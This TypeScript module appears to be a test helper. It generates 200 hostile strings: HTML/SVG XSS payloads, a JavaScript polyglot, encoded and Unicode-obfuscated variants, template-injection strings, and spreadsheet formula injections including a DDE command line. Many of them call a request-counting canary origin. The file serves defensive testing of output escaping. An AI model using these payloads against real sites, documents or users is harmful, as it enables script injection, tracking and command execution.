/** What a hostile text tries to reach. */
export interface Canary {
  /** The origin of a server that counts requests. */
  readonly origin: string
}

/**
 * Endings of the contexts that may contain a text: an attribute, an element whose content is text, a comment, a script.
 */
const ends = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  '</style></bdi>',
  '`-->',
  '</option></select>',
]

const markup = (url: string): readonly string[] => [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  `<img src=${url}>`,
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  `<iframe src=${url}></iframe>`,
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  `<link rel=stylesheet href=${url}>`,
  `<style>@import '${url}'</style>`,
  `<p style="background:url(${url})">`,
  `<object data=${url}></object>`,
  `<video src=${url} autoplay></video>`,
  `<script src=${url}></script>`,
  '<details open ontoggle=hit()>x',
  '<input autofocus onfocus=hit()>',
  `<meta http-equiv=refresh content="0;url=${url}">`,
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
]

const others = (url: string): readonly string[] => [
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '&#x3c;svg onload=hit()&#x3e;',
  '\\u003cimg src=x onerror=hit()\\u003e',
  '%3Cimg src=x onerror=hit()%3E',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  "{{constructor.constructor('hit()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template would fill this in.
  '${hit()}',
  '<%= hit() %>',
  '#{hit()}',
  '@(hit())',
  'javascript:hit()',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */hit() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=hit()//>',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  '\u202e<script>hit()</script>\u202c',
  '\u2067"><img src=x onerror=hit()>\u2069',
  '\u200b<\u200bscript>hit()</script>',
  '＜script＞hit()＜/script＞',
  '"onmouseover="hit()"autofocus onfocus="hit()',
  "' style='animation-name:x' onanimationstart='hit()",
  '</script><script>hit()//',
  "';hit();//",
  '";hit();//',
  '`;hit();//',
  `=HYPERLINK("${url}","x")`,
  "=cmd|' /C calc'!A0",
  `=IMPORTXML("${url}","//a")`,
  '+1+hit()',
  '@SUM(1+1)*hit()',
]

/** Two hundred texts that would run a script (`hit()`) or load something from another origin if they were markup. */
export function hostileTexts({ origin }: Canary): readonly string[] {
  const url = `${origin}/c`
  const matrix = ends.flatMap((end) => markup(url).map((each) => end + each))
  const all = [...others(url), ...matrix]
  // Every prefix of the list has texts of each kind, because 7 and their number have no common divisor.
  return all.map((_, index) => all[(index * 7) % all.length] ?? '')
}
